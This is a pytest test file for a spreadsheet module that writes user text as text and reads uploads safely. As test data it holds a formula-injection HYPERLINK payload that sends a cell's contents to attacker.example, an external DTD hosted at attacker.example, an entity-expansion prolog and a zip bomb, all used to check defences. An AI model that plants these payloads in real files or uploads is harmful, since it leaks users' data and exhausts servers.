"""jijiao_kit.xlsx: user text written as text (never a formula), and uploads read safely: every row
counts toward the limit, DTDs/entities, sheetless workbooks and broken archives are 422s."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from jijiao_kit.xlsx import (
    MAX_UNPACKED_BYTES,
    TooManyRows,
    WorkbookRejected,
    WorkbookTooLarge,
    WorkbookTooSlow,
    read_upload,
    read_workbook,
    rows_xlsx,
)

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'


def test_text_that_looks_like_a_formula_is_stored_as_text() -> None:
    risky = [HYPERLINK, "=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]
    data = rows_xlsx("t", ["name", "n"], [[value, 1] for value in risky] + [["bad\x00char", 2.5]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(risky) + 1)]
    # (XML reads a CR back as a LF)
    assert [cell.value for cell in cells] == [value.replace("\r", "\n") for value in risky]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)
    assert sheet.cell(2, 2).value == 1 and sheet.cell(2, 2).data_type == "n"
    assert sheet.cell(len(risky) + 2, 1).value == "badchar"
    # Nothing in the sheet's XML is a formula element.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_text_xml_cannot_hold_is_dropped_so_the_workbook_opens() -> None:
    """C0 controls, lone surrogates, U+FFFE and U+FFFF made the sheet's XML ill-formed (openpyxl's own
    ILLEGAL_CHARACTERS_RE misses the last three): the workbook did not open. Tab, LF and CR stay."""
    names = ["张\x01三", "李\x0b四", "王\ufffe五", "赵\uffff六", "钱\ud800七", "孙\x1f八\t九\n十"]
    data = rows_xlsx("t", ["姓名\x02"], [[name] for name in names])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.cell(1, 1).value == "姓名"
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [
        "张三", "李四", "王五", "赵六", "钱七", "孙八\t九\n十",
    ]  # fmt: skip


def _with_sheet_xml(sheet_xml: bytes, *, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A valid workbook whose part ``part`` is replaced by ``sheet_xml``."""
    source = rows_xlsx("t", ["学号", "课程编号"], [])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, sheet_xml if info.filename == part else src.read(info.filename))
    return out.getvalue()


NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet(rows: bytes, prolog: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + prolog + b"<worksheet " + NS + b"><sheetData>"
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>h</t></is></c></row>' + rows + b"</sheetData></worksheet>"
    )


def test_blank_rows_count_toward_the_limit_and_reading_stops_there() -> None:
    blank = b"".join(b'<row r="%d" s="1" customFormat="1"/>' % n for n in range(2, 400_002))
    data = _with_sheet_xml(_sheet(blank))
    with pytest.raises(TooManyRows) as caught:
        read_workbook(data, max_rows=5000)
    assert caught.value.status == 422 and caught.value.code == "too_many_rows"


def test_a_far_away_row_counts_the_missing_rows_too() -> None:
    far = b'<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'
    with pytest.raises(TooManyRows):
        read_workbook(_with_sheet_xml(_sheet(far)), max_rows=5000)


def test_exactly_the_limit_is_read_and_blank_rows_are_left_out() -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n) for n in range(2, 11, 2))
    sheet = read_workbook(_with_sheet_xml(_sheet(rows)), max_rows=10)
    assert sheet.header == ["h"]
    assert [number for number, _ in sheet.rows] == [2, 4, 6, 8, 10]


@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        b'<!DOCTYPE worksheet SYSTEM "http://attacker.example/x.dtd">',
        b"<!DOCTYPE worksheet>",
    ],
)
def test_dtds_and_entities_are_refused(prolog: bytes) -> None:
    with pytest.raises(WorkbookRejected) as caught:
        read_workbook(_with_sheet_xml(_sheet(b"", prolog)), max_rows=10)
    assert caught.value.status == 422 and caught.value.code == "workbook_dtd_forbidden"


def test_a_workbook_without_sheets_is_refused() -> None:
    source = rows_xlsx("t", ["h"], [])
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        workbook_xml = archive.read("xl/workbook.xml")
    emptied = re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", workbook_xml)
    with pytest.raises(WorkbookRejected) as caught:
        read_workbook(_with_sheet_xml(emptied, part="xl/workbook.xml"), max_rows=10)
    assert caught.value.status == 422


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"name,id\n",
        rows_xlsx("t", ["h"], [["x"]])[:-200],  # truncated zip
        _with_sheet_xml(b"<worksheet><sheetData><row"),  # broken XML
    ],
)
def test_broken_files_are_refused(data: bytes) -> None:
    with pytest.raises(WorkbookRejected) as caught:
        read_workbook(data, max_rows=10)
    assert caught.value.status == 422


async def test_read_upload_parses_in_a_thread() -> None:
    data = rows_xlsx("t", ["学号", "课程编号"], [["CE1", "C1"]])
    sheet = await read_upload(data, max_rows=10)
    assert sheet.header == ["学号", "课程编号"] and sheet.rows == [(2, ["CE1", "C1"])]


async def test_a_workbook_that_takes_too_long_is_refused_and_its_parser_killed() -> None:
    from jijiao_kit import xlsx

    slow = rows_xlsx("t", [f"c{n}" for n in range(40)], [[f"v{r}-{n}" for n in range(40)] for r in range(1500)])
    await read_upload(rows_xlsx("t", ["h"], [["x"]]), max_rows=10)  # the parser process is up
    pool = xlsx._parser_pool()
    processes = list(pool._processes.values())
    assert processes
    with pytest.raises(WorkbookTooSlow) as caught:
        await read_upload(slow, max_rows=5000, timeout_seconds=0.05)
    assert caught.value.status == 413 and caught.value.code == "workbook_parse_timeout"
    for process in processes:
        process.join(timeout=10)
        assert not process.is_alive()
    assert xlsx._pool is not pool
    sheet = await read_upload(slow, max_rows=5000)  # a fresh parser reads it given the time
    assert len(sheet.rows) == 1500


def test_openpyxl_parses_with_defusedxml() -> None:
    """openpyxl switches to defusedxml's parsers when it is installed (a dependency of the kit)."""
    import openpyxl.xml.functions
    from openpyxl import DEFUSEDXML

    assert DEFUSEDXML is True
    assert openpyxl.xml.functions.iterparse.__module__.startswith("defusedxml")


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_parsing() -> None:
    # A zip bomb: about 70 KB on the wire, 65 MB of sheet XML once unpacked (whitespace is legal there).
    padding = b" " * (MAX_UNPACKED_BYTES + 1024)
    data = _with_sheet_xml(_sheet(padding))
    assert len(data) < 200_000
    with pytest.raises(WorkbookTooLarge) as caught:
        read_workbook(data, max_rows=5000)
    assert caught.value.status == 413 and caught.value.code == "workbook_too_large"
    assert caught.value.title == "Excel 文件内容过大，请精简后重新上传"


SST_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def test_more_shared_strings_than_the_sheet_could_use_are_refused() -> None:
    # openpyxl would load every shared string into memory before handing out the first row.
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["学号", "课程编号"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert "xl/sharedStrings.xml" not in zipfile.ZipFile(buffer).namelist()  # openpyxl writes inline strings

    def with_strings(count: int) -> bytes:
        ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        strings = "<si><t>学号</t></si><si><t>课程编号</t></si>".encode() + b"".join(
            b"<si><t>%d</t></si>" % n for n in range(count - 2)
        )
        table = b'<?xml version="1.0" encoding="UTF-8"?><sst ' + ns + b">" + strings + b"</sst>"
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
        ):
            for info in src.infolist():
                content = src.read(info)
                if info.filename == "[Content_Types].xml":  # declare the table (openpyxl finds it so)
                    content = content.replace(b"</Types>", SST_TYPE + b"</Types>")
                dst.writestr(info.filename, content)
            dst.writestr("xl/sharedStrings.xml", table)
        return out.getvalue()

    with pytest.raises(WorkbookTooLarge):
        read_workbook(with_strings(12 * 64 + 1), max_rows=10)  # at most (10 + 2) x 64 strings could be used
    assert read_workbook(with_strings(12 * 64), max_rows=10).header == ["学号", "课程编号"]
